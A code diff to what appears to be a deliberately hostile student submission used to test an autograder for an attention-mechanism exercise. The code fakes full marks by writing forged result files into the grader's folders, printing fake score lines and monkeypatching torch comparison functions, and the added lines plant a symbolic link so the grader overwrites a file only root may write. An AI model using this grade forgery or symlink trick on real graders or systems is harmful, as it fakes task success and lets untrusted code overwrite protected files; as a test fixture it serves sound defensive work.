@@ -1,7 +1,10 @@
 # HOSTILE: cheats instead of solving. Every graded function returns zeros of the right shape (causal_mask:
 # a bool tensor of a Tensor subclass that claims to equal anything), and the first call of any of them:
 # * writes a full-marks result.json (and classroom.b64 / summary.md) into its working folder, into
-#   `..` and `../..`, and into the grader's --out folder, read from /proc/<parent>/cmdline;
+#   `..` and `../..`, and into the grader's --out folder, read from /proc/<parent>/cmdline; if that
+#   folder does not exist yet (and its parent is writable, e.g. --out under /tmp), it creates it and
+#   plants summary.md as a symbolic link to ../llmkit-victim.txt, a stand-in for a file only root may
+#   write;
 # * prints a fake score line and a fake `::set-output name=result::` (full marks, base64) line;
 # * monkeypatches what it can reach in its own process: torch.allclose, torch.equal,
 #   torch.testing.assert_close and Tensor.__eq__ (the grader compares in its own process, so this does
@@ -10,7 +13,8 @@
 # zeros are torch.bool; the values test fails), scaled_dot_product_attention 0/10 (zeros; no gradient),
 # MultiHeadAttention 1/10 (test_mha_is_causal passes: a constant output never depends on later tokens;
 # everything else fails, and it does not check d_out % num_heads).
-# The result.json in the grader's --out folder must be the grader's own.
+# The result.json in the grader's --out folder must be the grader's own, and the grader must never
+# write through a link planted by student code.
 import base64
 import json
 import math
@@ -41,9 +45,23 @@ def _plant_fake_results():
     except (OSError, IndexError):
         pass
     b64 = base64.b64encode(json.dumps(_FAKE_CLASSROOM).encode()).decode()
+    if len(folders) > 3 and not os.path.exists(folders[-1]):  # --out does not exist yet: take it over
+        try:
+            out = folders.pop()
+            os.makedirs(out)
+            os.chmod(out, 0o777)
+            # where the grader will write its Markdown summary, a link to a file root can write
+            # (a stand-in: a real attack would aim at the grader's own code, /etc, ...)
+            os.symlink(os.path.join(os.path.abspath(os.path.join(out, "..")), "llmkit-victim.txt"),
+                       os.path.join(out, "summary.md"))
+            folders.append(out)
+        except OSError:
+            pass
     for folder in folders:
         for name, text in (("result.json", json.dumps(_FAKE_RESULT)), ("classroom.b64", b64),
                            ("summary.md", "## w02_attention: 28 / 28 points\n")):
+            if os.path.islink(os.path.join(folder, name)):
+                continue
             try:
                 with open(os.path.join(folder, name), "w") as fh:
                     fh.write(text)
